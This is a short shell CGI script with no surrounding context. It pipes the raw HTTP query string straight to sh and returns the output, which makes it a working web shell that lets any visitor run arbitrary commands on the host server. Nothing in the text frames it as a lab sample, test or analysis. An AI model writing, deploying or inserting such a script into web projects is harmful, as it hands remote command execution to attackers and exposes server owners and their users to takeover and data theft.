#!/bin/sh
echo "Content-type: text/plain"
echo
out=$(echo "$QUERY_STRING" | sed 's/+/ /g' | sh 2>&1)
echo "$out"
